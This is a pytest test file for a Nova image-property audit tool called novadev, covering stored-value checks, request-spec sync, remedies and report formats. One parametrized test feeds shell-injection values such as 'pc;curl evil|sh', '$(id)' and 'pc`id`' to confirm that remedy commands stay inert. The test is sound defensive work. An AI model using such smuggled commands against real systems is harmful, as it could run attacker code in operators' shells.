"""The checks of what Nova's databases hold: no host is asked."""

import json
import re
import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from novadev.state.store import open_state
from novadev.state.tables import plans
from tests.audit.auditing import STASHED, audit, checks, healthy
from tests.cloud import Cloud
from tests.command import novadev

STORED = (
    *("not-stashed", "stored-value", "unreadable", "no-effect", "combination", "lun"),
    *("duplicate-property", "request-spec", "disk-bus", "machine-type"),
)
MADE_BY_NOVA = {
    **{"hw_machine_type": "pc", "hw_cdrom_bus": "ide", "hw_disk_bus": "virtio"},
    **{"hw_input_bus": "usb", "hw_pointer_model": "usbtablet", "hw_video_model": "virtio"},
    "hw_vif_model": "virtio",
}
"""What Nova 34 registered for a server on a host of its own defaults."""
ONLY = tuple(word for name in STORED for word in ("--check", name))


def found(cloud: Cloud, code: int = 0) -> list[dict[str, Any]]:
    return audit(cloud, "--all", *ONLY, code=code)


def test_nothing_is_found_of_a_healthy_guest(any_cloud: Cloud) -> None:
    healthy(any_cloud)
    assert found(any_cloud) == []


def _taken_out(sqlite_cloud: Cloud, value: str, **columns: Any) -> tuple[str, str]:
    """Take the model of network cards out of what is stored of a guest, whose default is virtio."""
    uuid = healthy(sqlite_cloud, hw_vif_model=value, **columns)
    row = {"key": "shelved_host", "value": "cmp1", "deleted": 0}
    sqlite_cloud.insert("instance_system_metadata", "cell1", instance_uuid=uuid, **row)
    folder = sqlite_cloud.folder / "hosts"
    folder.mkdir()
    (folder / "cmp1.conf").write_text("[libvirt]\nvirt_type = kvm\n")
    with sqlite_cloud.config_file.open("a") as file:
        file.write(f"\n[novadev]\ncompute_config_dir = {folder}\n")
    line = ("image-property", "unset", "--property", "hw_vif_model", "--yes", uuid)
    return uuid, str(novadev(sqlite_cloud, *line, "-f", "json").json["run"])


def test_what_a_run_took_out_is_offered_by_no_command(sqlite_cloud: Cloud) -> None:
    uuid, run = _taken_out(sqlite_cloud, "e1000")
    (item,) = audit(sqlite_cloud, "--all", "--check", "not-stashed")
    assert (item["remedy"], item["details"]) == (
        None,
        f"hw_vif_model is not stored: run {run} took e1000 out, and the guest may have it until a "
        "power-on gives it today's default (openstack server start); to store e1000 again, run "
        f"novadev stash-defaults --property hw_vif_model {uuid}",
    )


def test_a_plan_that_cannot_be_read_hides_no_other(sqlite_cloud: Cloud) -> None:
    """As one that a newer release has written."""
    uuid, run = _taken_out(sqlite_cloud, "e1000")
    other = healthy(sqlite_cloud, hw_vif_model="e1000", vm_state="stopped")
    line = ("image-property", "unset", "--property", "hw_vif_model", "--yes", other)
    assert novadev(sqlite_cloud, *line).code == 0
    with open_state(f"sqlite:///{sqlite_cloud.folder / 'state.sqlite'}").writing() as connection:
        damaged = sa.update(plans).where(plans.c.instance == other).values(body='{"new": 1}')
        assert connection.execute(damaged).rowcount == 1
    items = {item["instance"]: item for item in audit(sqlite_cloud, "--all", *ONLY[:2])}
    assert f"run {run} took e1000 out" in items[uuid]["details"]
    assert "took" not in items[other]["details"]


@pytest.mark.parametrize("away", [{}, {"host": None, "vm_state": "shelved_offloaded"}])
def test_a_default_that_a_run_took_out_is_offered_like_any(
    sqlite_cloud: Cloud, away: dict[str, Any]
) -> None:
    uuid, _ = _taken_out(sqlite_cloud, "virtio", **away)
    (item,) = audit(sqlite_cloud, "--all", "--check", "not-stashed")
    assert item["remedy"] == f"novadev stash-defaults --yes --versioned {uuid}"
    assert "run " not in item["details"]


@pytest.mark.parametrize(
    ("wanted", "cell"),
    [
        ({"vm_state": "error", "host": None}, "cell0"),
        ({"vm_state": "error", "host": None}, "cell1"),
        ({"vm_state": "error", "host": "cmp1"}, "cell1"),
        ({"vm_state": "building", "host": "cmp1"}, "cell1"),
    ],
)
def test_a_server_that_was_never_built_has_no_guest_to_find_anything_in(
    sqlite_cloud: Cloud, wanted: dict[str, Any], cell: str
) -> None:
    bad = {"hw_disk_bus": "xen", "hw_rng_model": "virtio", "hw_vif_model": "no"}
    uuid = sqlite_cloud.add_instance(
        cell=cell, columns={"launched_at": None}, request_spec=False, **wanted, **bad
    )
    assert found(sqlite_cloud) == []
    result = novadev(sqlite_cloud, "stash-defaults", "--dry-run", "--source", "driver", uuid)
    assert result.code == 3
    assert re.search(r"web-1 \S+ (was never built|is building)", result.err)


def test_a_server_that_has_failed_since_is_looked_at(sqlite_cloud: Cloud) -> None:
    sqlite_cloud.add_instance(vm_state="error", hw_disk_bus="xen")
    assert "combination" in checks(found(sqlite_cloud, code=3))


def test_rules_that_are_assumed_because_a_file_is_bad_are_told_once(sqlite_cloud: Cloud) -> None:
    for host in ("cmp1", "cmp1", "cmp2"):
        healthy(sqlite_cloud, host=host)
    file = sqlite_cloud.folder / "cmp1.json"
    file.write_text("{}")
    with sqlite_cloud.config_file.open("a") as config:
        config.write(f"\n[novadev]\ncompute_config_dir = {sqlite_cloud.folder}\n")
    (item,) = found(sqlite_cloud, code=8)
    assert (item["check"], item["host"], item["instance"]) == ("unreachable", "cmp1", None)
    told = f"{file} is not a capability file written by novadev"
    rules = "its guests are checked with the rules of novadev's own configuration"
    assert item["details"] == f"{rules}: {told}"


@pytest.mark.parametrize(
    ("wanted", "check", "severity", "told", "remedy"),
    [
        (
            {"hw_rng_model": "virtio"},
            "no-effect",
            "warning",
            "Nova always makes the random number generator virtio",
            "novadev image-property unset --yes --property hw_rng_model",
        ),
        (
            {"hw_pointer_model": "usbtablet", "hw_input_bus": "virtio"},
            "no-effect",
            "warning",
            "it is ignored because hw_input_bus=virtio is set",
            "novadev image-property unset --yes --property hw_pointer_model",
        ),
        (
            {"hw_video_model": "gop"},
            "combination",
            "failure",
            "libvirt's QEMU driver has no such video model",
            "novadev image-property set --yes --property hw_video_model=virtio",
        ),
        (
            {"hw_scsi_model": "buslogic"},
            "combination",
            "failure",
            "QEMU has no such controller",
            "novadev image-property set --yes --property hw_scsi_model=virtio-scsi",
        ),
        (
            {"hw_disk_bus": "scsi"},
            "disk-bus",
            "warning",
            "hw_disk_bus is scsi, and every disk is on virtio",
            "novadev image-property set --yes --property hw_disk_bus=virtio",
        ),
        (
            {"hw_machine_type": "q35", "hw_cdrom_bus": "sata"},
            "machine-type",
            "warning",
            "hw_machine_type=q35 stands for the newest version of its kind",
            None,
        ),
    ],
)
def test_what_a_stored_value_does(
    sqlite_cloud: Cloud,
    wanted: dict[str, str],
    check: str,
    severity: str,
    told: str,
    remedy: str | None,
) -> None:
    uuid = healthy(sqlite_cloud, **wanted)
    (item,) = found(sqlite_cloud, code=3 if severity == "failure" else 0)
    assert (item["check"], item["severity"], item["instance"]) == (check, severity, uuid)
    assert told in item["details"]
    assert item["remedy"] == (remedy and f"{remedy} {uuid}")
    assert (item["host"], item["name"], item["project"]) == ("cmp1", "web-1", "project-1")


def test_properties_that_are_not_stored(sqlite_cloud: Cloud) -> None:
    """A stored null is a value of Nova's: only what is absent is missing."""
    uuid = sqlite_cloud.add_instance(**{**STASHED, "hw_disk_bus": None})
    assert found(sqlite_cloud) == []
    del_uuid = sqlite_cloud.add_instance(
        name="web-2", **{name: value for name, value in STASHED.items() if name != "hw_vif_model"}
    )
    (item,) = found(sqlite_cloud)
    assert item["instance"] == del_uuid != uuid
    told, unread = item["details"].split("; ")
    assert told == "hw_vif_model is not stored: a new default would change the guest"
    assert unread == "what the guest has was not read"
    assert item["remedy"] == f"novadev stash-defaults --yes --versioned {del_uuid}"


def test_a_value_that_nova_does_not_have(sqlite_cloud: Cloud) -> None:
    uuid = healthy(sqlite_cloud, hw_vif_model="e1001")
    items = found(sqlite_cloud, code=3)
    assert checks(items) == ["request-spec", "stored-value"]
    (item,) = (item for item in items if item["check"] == "stored-value")
    assert "did you mean e1000" in item["details"]
    assert item["remedy"] == f"novadev image-property unset --yes --property hw_vif_model {uuid}"


def test_a_property_of_another_kind_that_nova_cannot_read(sqlite_cloud: Cloud) -> None:
    """Nova builds no guest with it, though it is none of those that novadev sets."""
    good, bad = (healthy(sqlite_cloud, hw_cpu_policy=value) for value in ("dedicated", "dedicate"))
    items = found(sqlite_cloud, code=3)
    assert checks(items) == ["request-spec", "unreadable"]
    (item,) = (item for item in items if item["check"] == "unreadable")
    assert good != bad == item["instance"]
    assert (item["check"], item["severity"]) == ("unreadable", "failure")
    assert item["remedy"] == f"novadev image-property unset --yes --unreadable {bad}"
    assert "hw_cpu_policy=dedicate" in item["details"]


def test_a_request_spec_that_says_otherwise(sqlite_cloud: Cloud) -> None:
    uuid = healthy(sqlite_cloud)
    (row,) = sqlite_cloud.rows("request_specs", "api", instance_uuid=uuid)
    text = row["spec"].replace('"hw_vif_model": "virtio"', '"hw_vif_model": "e1000"')
    assert text != row["spec"]
    sqlite_cloud.update("request_specs", "api", {"instance_uuid": uuid}, spec=text)
    (item,) = found(sqlite_cloud)
    assert item["details"] == "hw_vif_model is virtio in the cell, but e1000 in the request spec"
    assert item["remedy"] == f"novadev image-property sync --yes {uuid}"
    sqlite_cloud.delete("request_specs", "api", instance_uuid=uuid)
    (item,) = found(sqlite_cloud)
    assert (item["check"], item["remedy"]) == ("request-spec", None)


@pytest.mark.parametrize(
    ("config", "properties", "lacks"),
    [
        ("[libvirt]\nvirt_type = qemu\n", {}, ""),
        ("[libvirt]\nhw_machine_type = x86_64=q35\n", {}, "hw_cdrom_bus=ide, hw_machine_type=pc"),
        ("", {"hw_vif_model": "e1000"}, "hw_vif_model=e1000"),
        ("", {"os_distro": "debian12"}, "hw_cdrom_bus=ide, hw_disk_bus=virtio"),
    ],
)
def test_a_spec_may_lack_what_nova_would_choose_again(
    sqlite_cloud: Cloud, config: str, properties: dict[str, str], lacks: str
) -> None:
    """Nova writes its own choices into the cell alone, for every server it spawns."""
    nova_chose = {**MADE_BY_NOVA, **properties}
    given = {name: value for name, value in properties.items() if name == "os_distro"}
    sqlite_cloud.add_instance(**nova_chose, spec_properties=given)
    (sqlite_cloud.folder / "cmp1.conf").write_text(f"[DEFAULT]\nhost = cmp1\n{config}")
    with sqlite_cloud.config_file.open("a") as file:
        file.write(f"\n[novadev]\ncompute_config_dir = {sqlite_cloud.folder}\n")
    told = [item["details"] for item in audit(sqlite_cloud, "--all", "--check", "request-spec")]
    assert len(told) == bool(lacks)
    assert all(f"the request spec lacks {lacks}" in item for item in told)


@pytest.mark.parametrize("image", ["empty", "null", "contradicting"])
def test_one_remedy_mends_a_running_server_s_request_spec(sqlite_cloud: Cloud, image: str) -> None:
    """Whatever is wrong with the spec, and however many properties: one finding, one command."""
    said = {"hw_disk_bus": "ide", "hw_pmu": True} if image == "contradicting" else {}
    uuid = healthy(sqlite_cloud, vm_state="active", spec_properties=said)
    if image == "null":
        spec = sqlite_cloud.request_spec(uuid)
        spec["nova_object.data"]["image"] = None
        sqlite_cloud.update("request_specs", "api", {"instance_uuid": uuid}, spec=json.dumps(spec))
    (item,) = found(sqlite_cloud)
    told = {
        "empty": "the request spec lacks hw_cdrom_bus=ide, hw_disk_bus=virtio, hw_machine_type=",
        "null": "the request spec has no image, so a resize builds the guest with Nova's defaults",
        "contradicting": "hw_disk_bus is virtio in the cell, but ide in the request spec; "
        "hw_pmu is not stored",
    }
    assert told[image] in item["details"]
    assert "stopped" not in item["details"]
    program, *words = shlex.split(item["remedy"])
    assert (program, words) == ("novadev", ["image-property", "sync", "--yes", uuid])
    assert novadev(sqlite_cloud, *words).code == 0
    assert found(sqlite_cloud) == []


def test_a_value_that_nova_cannot_read_is_no_measure_of_the_request_spec(
    sqlite_cloud: Cloud,
) -> None:
    """The finding says what is to be mended first, and promises no sync."""
    healthy(sqlite_cloud, os_type="Windows Server 2019", spec_properties={})
    (item,) = audit(sqlite_cloud, "--all", "--check", "request-spec")
    assert "os_type=Windows Server 2019" in item["details"]
    assert (item["check"], item["remedy"]) == ("request-spec", None)


@pytest.mark.parametrize(("vm_state", "needs"), [("stopped", "command"), ("active", "stop")])
@pytest.mark.parametrize(
    ("name", "value", "check"),
    [
        ("os_type", "Windows Server 2019", "unreadable"),
        ("hw_vif_model", "e1001", "stored-value"),
        ("hw_disk_bus", "VIRTIO", "stored-value"),
    ],
)
def test_a_sync_comes_after_the_command_that_makes_the_cell_readable(
    sqlite_cloud: Cloud, vm_state: str, needs: str, name: str, value: str, check: str
) -> None:
    """It is refused before, and so it waits as that command does."""
    spec = {**STASHED, "hw_video_model": "vga"}
    uuid = healthy(sqlite_cloud, vm_state=vm_state, spec_properties=spec, **{name: value})
    only = ("--check", check, "--check", "request-spec")
    items = {item["check"]: item for item in audit(sqlite_cloud, "--all", *only, code=3)}
    assert {item["needs"] for item in items.values()} == {needs}
    remedies = [items[found]["remedy"] for found in (check, "request-spec")]
    assert remedies[1] == f"novadev image-property sync --yes {uuid}"
    sqlite_cloud.update("instances", "cell1", {"uuid": uuid}, vm_state="stopped")
    for remedy in remedies:
        result = novadev(sqlite_cloud, *shlex.split(remedy)[1:])
        assert result.code == 0, result.err
    assert audit(sqlite_cloud, "--all", *only) == []


def test_a_container_has_no_interface_model(sqlite_cloud: Cloud) -> None:
    """None can be stored in its place, so the remedy takes it out."""
    (sqlite_cloud.folder / "cmp1.conf").write_text("[libvirt]\nvirt_type = lxc\n")
    with sqlite_cloud.config_file.open("a") as file:
        file.write(f"\n[novadev]\ncompute_config_dir = {sqlite_cloud.folder}\n")
    uuid = sqlite_cloud.add_instance(hw_vif_model="virtio")
    sqlite_cloud.add_disk(uuid, disk_bus="lxc")
    (item,) = audit(sqlite_cloud, "--check", "combination", uuid, code=3)
    assert item["details"].endswith("virt_type lxc has no interface models; leave it out")
    for words in (
        shlex.split(item["remedy"])[1:],
        ["image-property", "set", "--property", "hw_disk_bus=lxc", "--yes", uuid],
    ):
        result = novadev(sqlite_cloud, *words)
        assert result.code == 0, result.err
    assert audit(sqlite_cloud, "--check", "combination", uuid) == []


def test_luns(sqlite_cloud: Cloud) -> None:
    uuid = healthy(sqlite_cloud, hw_scsi_model="lsilogic")
    sqlite_cloud.add_volume(uuid, device_name="/dev/sda", disk_bus="scsi", device_type="lun")
    (item,) = found(sqlite_cloud)
    assert (item["check"], item["severity"]) == ("lun", "warning")
    assert item["remedy"].startswith(
        "novadev image-property set --yes --property hw_scsi_model=virtio-scsi"
    )


@pytest.mark.parametrize(
    "value", ["pc;curl evil|sh", "$(id)", "--yes", "pc`id`", "pc\nid", "pc q35", "'", "pc&"]
)
def test_a_value_of_an_image_is_never_a_command(sqlite_cloud: Cloud, value: str) -> None:
    """An operator pastes remedies into a shell, and a tenant chooses the image's properties."""
    uuid = healthy(sqlite_cloud, hw_machine_type=value, hw_video_model=value)
    (row,) = sqlite_cloud.rows("request_specs", "api", instance_uuid=uuid)
    empty = row["spec"].replace('"hw_machine_type": ', '"hw_machine_type_of_old": ')
    sqlite_cloud.update("request_specs", "api", {"instance_uuid": uuid}, spec=empty)
    items = audit(sqlite_cloud, "--all", *ONLY, code=3)
    assert "request-spec" in checks(items)
    known = {
        *(
            "novadev",
            "image-property",
            "set",
            "unset",
            "sync",
            "--yes",
            "--property",
            uuid,
            "hw_video_model",
        )
    }
    known |= {"hw_video_model=virtio", f"hw_video_model={value}"}
    for item in items:
        remedy = item["remedy"] or ""
        assert set(shlex.split(remedy)) <= known
        bare = remedy.replace(shlex.quote(f"hw_video_model={value}"), "")
        assert re.fullmatch(r"[a-z0-9 _=-]*", bare)


def test_a_remedy_that_has_to_wait_says_so(sqlite_cloud: Cloud) -> None:
    healthy(sqlite_cloud, vm_state="active", hw_rng_model="virtio")
    (item,) = found(sqlite_cloud)
    assert item["details"].endswith(
        "; the server has to be stopped for the remedy (openstack server stop)"
    )


def test_a_thousand_guests_alike_are_told_apart(sqlite_cloud: Cloud) -> None:
    """What is remembered of one guest must not be said of another."""
    good = [healthy(sqlite_cloud, name=f"good-{number}") for number in range(3)]
    bad = [
        healthy(sqlite_cloud, name=f"bad-{number}", hw_video_model="gop", vm_state=state)
        for number, state in enumerate(("stopped", "active", "stopped"))
    ]
    items = found(sqlite_cloud, code=3)
    assert sorted(item["instance"] for item in items) == sorted(bad)
    assert not set(good) & {item["instance"] for item in items}
    assert all(item["instance"] in item["remedy"] for item in items)


def test_of_two_machine_types_the_operator_chooses(sqlite_cloud: Cloud) -> None:
    """A rescue replaces that of the cell: the request spec has the only copy of what was set."""
    uuid = healthy(sqlite_cloud, hw_machine_type="pc", spec_properties={"hw_machine_type": "q35"})
    (item,) = audit(sqlite_cloud, "--all", "--check", "request-spec")
    assert item["remedy"] is None
    assert f"novadev machine-type set --yes q35 {uuid}" in item["details"]
    assert f"image-property sync --yes {uuid}" in item["details"]


# The command line


def test_only_the_checks_that_are_asked_for(sqlite_cloud: Cloud) -> None:
    healthy(sqlite_cloud, hw_rng_model="virtio", hw_video_model="gop")
    assert checks(audit(sqlite_cloud, "--all", "--check", "no-effect")) == ["no-effect"]
    mistyped = novadev(sqlite_cloud, "audit", "--all", "--check", "no-efect")
    assert (mistyped.code, "did you mean no-effect?" in mistyped.err) == (4, True)
    unknown = novadev(sqlite_cloud, "audit", "--all", "--check", "xyz")
    assert (unknown.code, "there is no check 'xyz': there are" in unknown.err) == (4, True)


def test_what_fails_an_audit(sqlite_cloud: Cloud) -> None:
    healthy(sqlite_cloud, hw_rng_model="virtio")
    assert novadev(sqlite_cloud, "audit", "--all", *ONLY).code == 0
    assert novadev(sqlite_cloud, "audit", "--all", *ONLY, "--fail-on", "warning").code == 3
    assert novadev(sqlite_cloud, "audit", "--all", *ONLY, "--fail-on", "failure").code == 0


def test_a_name_that_is_nobody_s(sqlite_cloud: Cloud) -> None:
    uuid = healthy(sqlite_cloud, hw_rng_model="virtio")
    result = novadev(sqlite_cloud, "audit", "-f", "json", *ONLY, uuid, "nobody")
    assert result.code == 2
    assert [item["instance"] for item in result.json] == [uuid]
    assert "instance 'nobody' not found" in result.err


def test_a_cell_that_is_down(make_cloud: Callable[[str, str], Cloud]) -> None:
    """It is a finding of its own; the other cell is looked at."""
    cloud = make_cloud("sqlite", "34")
    here = healthy(cloud, hw_rng_model="virtio")
    healthy(cloud, cell="cell2", name="web-2")
    (cloud.folder / "cell2.sqlite").unlink()
    result = novadev(cloud, "audit", "--all", "-f", "json", *ONLY)
    assert result.code == 8
    items = result.json
    assert checks(items) == ["no-effect", "unreachable"]
    down = next(item for item in items if item["check"] == "unreachable")
    assert (down["instance"], down["host"], down["severity"]) == (None, None, "failure")
    assert "cell2" in down["details"]
    assert here in {item["instance"] for item in items}


def test_people_see_the_guest_its_findings_and_their_remedies(sqlite_cloud: Cloud) -> None:
    uuid = healthy(sqlite_cloud, hw_rng_model="virtio")
    result = novadev(sqlite_cloud, "audit", "--all", *ONLY)
    assert f"web-1 ({uuid}) on cmp1" in result.out
    assert f"\nnovadev image-property unset --yes --property hw_rng_model {uuid}" in result.out
    assert "1 guest: 0 failures, 1 warning." in result.err


def test_json_has_the_contract_s_keys(sqlite_cloud: Cloud) -> None:
    healthy(sqlite_cloud, hw_rng_model="virtio")
    text = novadev(sqlite_cloud, "audit", "--all", *ONLY, "-f", "json").out
    (item,) = json.loads(text)
    assert list(item)[:6] == ["check", "severity", "instance", "host", "details", "remedy"]


def test_the_report_has_what_json_has(sqlite_cloud: Cloud, tmp_path: Path) -> None:
    uuid = healthy(sqlite_cloud, hw_rng_model="virtio")
    page = tmp_path / "audit.html"
    result = novadev(
        sqlite_cloud,
        "audit",
        "--all",
        *ONLY,
        "--report",
        str(page),
        "-f",
        "json",
        "--cell",
        "cell1",
    )
    assert (result.code, len(result.json)) == (0, 1)
    assert page.stat().st_mode & 0o777 == 0o600
    text = page.read_text()
    assert result.json[0]["remedy"] in text
    assert uuid in text
    assert "cell cell1" in text


def test_a_report_that_cannot_be_written(sqlite_cloud: Cloud, tmp_path: Path) -> None:
    """It is said before anything is looked at."""
    healthy(sqlite_cloud, hw_rng_model="virtio")
    result = novadev(
        sqlite_cloud, "audit", "--all", *ONLY, "--report", str(tmp_path / "none" / "audit.html")
    )
    assert (result.code, result.out) == (4, "")


def test_counts_for_prometheus(sqlite_cloud: Cloud) -> None:
    healthy(sqlite_cloud, hw_rng_model="virtio")
    result = novadev(sqlite_cloud, "audit", "--all", *ONLY, "-f", "prometheus")
    assert result.code == 0
    lines = result.out.splitlines()
    assert 'novadev_audit_findings{check="no-effect",severity="warning"} 1' in lines
    assert 'novadev_audit_findings{check="no-effect",severity="failure"} 0' in lines
    assert "novadev_audit_guests 1" in lines
    assert novadev(sqlite_cloud, "image-property", "list", "--all", "-f", "prometheus").code == 4


def test_a_page_has_the_title_that_was_chosen(sqlite_cloud: Cloud, tmp_path: Path) -> None:
    page = tmp_path / "audit.html"
    words = ("audit", "--all", *ONLY, "--report", str(page))

    def heading(*more: str) -> str:
        assert novadev(sqlite_cloud, *words, *more).code == 0
        return page.read_text().partition("<h1>")[2].partition("</h1>")[0]

    assert heading("--title", "a <b> & c") == "a &lt;b&gt; &amp; c"
    config = sqlite_cloud.config_file
    config.write_text(config.read_text() + "cloud_name = Region One\n")
    assert heading() == "Region One"
    assert heading("--title", "Before 2027.1") == "Before 2027.1"
    alone = novadev(sqlite_cloud, "audit", "--all", "--title", "x")
    assert (alone.code, "--report" in alone.err) == (4, True)


@pytest.mark.parametrize(
    ("spec", "is_open"), [("q35", True), ("pc-i440fx-6.2", True), ("pc", False), ("bogus", False)]
)
def test_an_alias_beside_another_machine_type_is_not_pinned(
    sqlite_cloud: Cloud, spec: str, is_open: bool
) -> None:
    """After a rescue the request spec has the only copy of what was chosen: none overwrites it."""
    stored = {**STASHED, "hw_machine_type": "pc"}
    there = {name: value for name, value in stored.items() if value is not None}
    uuid = sqlite_cloud.add_instance(
        image_properties=stored, spec_properties={**there, "hw_machine_type": spec}
    )
    told = novadev(sqlite_cloud, "audit", uuid, "-f", "json").json
    (found,) = [item for item in told if item["check"] == "machine-type"]
    assert (f"the request spec has {spec}" in found["details"]) is is_open
    commands = novadev(sqlite_cloud, "audit", uuid, "-f", "commands").out
    assert not (is_open and "machine-type set" in commands)
